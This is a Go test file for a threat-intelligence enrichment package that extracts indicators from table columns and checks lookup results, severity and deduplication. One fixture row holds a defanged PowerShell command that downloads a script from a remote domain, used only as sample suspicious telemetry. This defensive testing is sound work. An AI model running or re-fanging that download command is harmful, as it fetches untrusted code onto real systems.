package enrich

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/msticgo/msticgo/lookup"
	"github.com/msticgo/msticgo/table"
)

// listProvider is a TI provider answering from a fixed list (a real
// lookup.Provider run by the real engine), counting its calls per value.
type listProvider struct {
	hits map[string]lookup.Severity
	fail map[string]bool
	mu   sync.Mutex
	seen map[string]int
}

func (p *listProvider) Lookup(_ context.Context, it lookup.Item) lookup.Result {
	p.mu.Lock()
	p.seen[it.Value]++
	p.mu.Unlock()
	if p.fail[it.Value] {
		return lookup.Result{Status: lookup.StatusProviderError, Message: "HTTP 500"}
	}
	if sev, ok := p.hits[it.Value]; ok {
		return lookup.Result{Status: lookup.StatusFound, Found: true, Severity: sev, Details: "listed: " + it.Value}
	}
	return lookup.Result{Status: lookup.StatusNotFound, Severity: lookup.SevInformation, Details: "Not found."}
}

func newEngine(t *testing.T, ps ...*listProvider) *lookup.Engine {
	t.Helper()
	var specs []lookup.ProviderSpec
	for i, p := range ps {
		p.seen = map[string]int{}
		name := []string{"Alpha", "Beta"}[i]
		specs = append(specs, lookup.ProviderSpec{Name: name, Kind: name, Provider: p, Primary: true})
	}
	eng := lookup.NewEngine(specs, lookup.Options{Prepare: lookup.IOCPreparer, DefaultRetries: -1, BackoffBase: time.Millisecond})
	t.Cleanup(func() { eng.Close() })
	return eng
}

func connections() *table.Frame {
	f := table.New(
		table.Column{Name: "Computer", Type: table.String},
		table.Column{Name: "DestIP", Type: table.String},
		table.Column{Name: "Port", Type: table.Int},
		table.Column{Name: "CommandLine", Type: table.String},
	)
	f.Append("WS-ALDER", "91.234.254.144", int64(443), `powershell -c iwr hxxps://softupdates[.]info/a.ps1`)
	f.Append("WS-BIRCH", "8.8.8.8", int64(53), "nslookup example.com")
	f.Append("WS-ALDER", "91.234.254.144", int64(443), "")
	f.Append("WS-CEDAR", "10.0.0.5", int64(445), nil)
	f.Append("WS-CEDAR", "", int64(0), "notepad.exe")
	return f
}

func TestFrame(t *testing.T) {
	a := &listProvider{hits: map[string]lookup.Severity{"91.234.254.144": lookup.SevWarning, "softupdates.info": lookup.SevHigh}}
	b := &listProvider{hits: map[string]lookup.Severity{"91.234.254.144": lookup.SevHigh}, fail: map[string]bool{"8.8.8.8": true}}
	eng := newEngine(t, a, b)
	in := connections()
	res, err := Frame(context.Background(), eng, in, Options{Columns: []string{"destip", "CommandLine"}, DetailWidth: 200})
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(res.Columns, ","); got != "DestIP,CommandLine" {
		t.Errorf("columns %s", got)
	}
	if res.Frame.Len() != in.Len() || len(res.Frame.Columns) != len(in.Columns)+3 {
		t.Fatalf("rows %d cols %d", res.Frame.Len(), len(res.Frame.Columns))
	}
	if len(in.Columns) != 4 || len(in.Rows[0]) != 4 {
		t.Fatal("input frame changed")
	}
	get := func(row int, col string) string {
		v := res.Frame.Rows[row][res.Frame.ColumnIndex(col)]
		s, _ := v.(string)
		return s
	}
	tests := []struct {
		row                 int
		sev, matched        string
		detail, notInDetail []string
	}{
		{0, "high", "Alpha, Beta", []string{"91.234.254.144 Alpha: listed: 91.234.254.144", "91.234.254.144 Beta: listed", "softupdates.info Alpha: listed"}, nil},
		{1, "", "", []string{"8.8.8.8 Beta: provider error: HTTP 500"}, []string{"Alpha"}},
		{2, "high", "Alpha, Beta", []string{"91.234.254.144 Alpha"}, []string{"softupdates"}},
		{3, "", "", []string{"10.0.0.5: not routable: private"}, []string{"Alpha", "Beta"}},
		{4, "", "", nil, []string{"notepad"}},
	}
	for _, tt := range tests {
		if got := get(tt.row, ColSeverity); got != tt.sev {
			t.Errorf("row %d severity %q, want %q", tt.row, got, tt.sev)
		}
		if got := get(tt.row, ColMatched); got != tt.matched {
			t.Errorf("row %d matched %q, want %q", tt.row, got, tt.matched)
		}
		d := get(tt.row, ColDetail)
		for _, w := range tt.detail {
			if !strings.Contains(d, w) {
				t.Errorf("row %d detail %q lacks %q", tt.row, d, w)
			}
		}
		for _, w := range tt.notInDetail {
			if strings.Contains(d, w) {
				t.Errorf("row %d detail %q has %q", tt.row, d, w)
			}
		}
		if tt.detail == nil && d != "" {
			t.Errorf("row %d detail %q, want none", tt.row, d)
		}
	}
	// Each distinct indicator looked up once per provider; the private
	// address and plain words never sent.
	for _, p := range []*listProvider{a, b} {
		for v, n := range p.seen {
			if n != 1 {
				t.Errorf("%s looked up %d times", v, n)
			}
		}
		for _, never := range []string{"10.0.0.5", "notepad.exe", "WS-ALDER"} {
			if p.seen[never] > 0 {
				t.Errorf("%s was sent", never)
			}
		}
		if p.seen["softupdates.info"] != 1 || p.seen["example.com"] != 1 {
			t.Errorf("extracted indicators not looked up: %v", p.seen)
		}
	}
	// One lookup row per distinct value and provider, in order of appearance.
	var order []string
	for i, r := range res.Lookups {
		if i%2 == 0 {
			order = append(order, r.Item.Ioc)
		}
	}
	want := "91.234.254.144,https://softupdates.info/a.ps1,softupdates.info,8.8.8.8,example.com,10.0.0.5"
	if got := strings.Join(order, ","); got != want {
		t.Errorf("lookup order %s, want %s", got, want)
	}
	if res.Summary.Failed() != 1 || len(res.Lookups) != 12 {
		t.Errorf("failed %d of %d", res.Summary.Failed(), len(res.Lookups))
	}
}

func TestAutoColumns(t *testing.T) {
	f := connections()
	f.Columns = append(f.Columns, table.Column{Name: "Hash", Type: table.Any}, table.Column{Name: "Mixed", Type: table.String})
	hashes := []any{"44d88612fea8a8f36de82e1278abb02f", nil, "44D88612FEA8A8F36DE82E1278ABB02F", "", "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"}
	mixed := []string{"8.8.8.8", "hello", "world", "again", "x"}
	for i := range f.Rows {
		f.Rows[i] = append(f.Rows[i], hashes[i], mixed[i])
	}
	// 4 of 5 values are indicators: enough; 3 of 4 (DestIP has one empty
	// value) is below four in five... so the empty value must not count.
	if got := strings.Join(AutoColumns(f), ","); got != "DestIP,Hash" {
		t.Errorf("auto columns %q", got)
	}
	res, err := Frame(context.Background(), newEngine(t, &listProvider{}), f, Options{Columns: []string{"auto"}})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(res.Columns, ",") != "DestIP,Hash" {
		t.Errorf("enriched %v", res.Columns)
	}
}

func TestColumnErrors(t *testing.T) {
	eng := newEngine(t, &listProvider{})
	for _, cols := range [][]string{{"NoSuchColumn"}, {"DestIP", "auto"}, {" ", ""}} {
		_, err := Frame(context.Background(), eng, connections(), Options{Columns: cols})
		if !errors.Is(err, ErrColumns) {
			t.Errorf("%q: %v", cols, err)
		}
	}
	_, err := Frame(context.Background(), eng, connections(), Options{Columns: []string{"NoSuchColumn"}})
	var ce *ColumnError
	if !errors.As(err, &ce) || !strings.Contains(err.Error(), "DestIP") || !strings.Contains(err.Error(), "NoSuchColumn") {
		t.Errorf("column error: %v", err)
	}
}

func TestEmptyFrameKeepsColumns(t *testing.T) {
	p := &listProvider{}
	f := table.NewStrings("DestIP")
	res, err := Frame(context.Background(), newEngine(t, p), f, Options{Columns: []string{"DestIP"}})
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(res.Frame.Names(), ","); got != "DestIP,TISeverity,TIMatched,TIDetail" || res.Frame.Len() != 0 || len(p.seen) != 0 {
		t.Errorf("empty: %s rows %d calls %v", got, res.Frame.Len(), p.seen)
	}
}

func TestCut(t *testing.T) {
	for _, tt := range []struct {
		in   string
		n    int
		want string
	}{{"abc", 3, "abc"}, {"abcd", 3, "ab…"}, {"ünïcödé", 4, "ünï…"}, {"x", 0, "x"}} {
		if got := cut(tt.in, tt.n); got != tt.want {
			t.Errorf("cut(%q, %d) = %q", tt.in, tt.n, got)
		}
	}
}
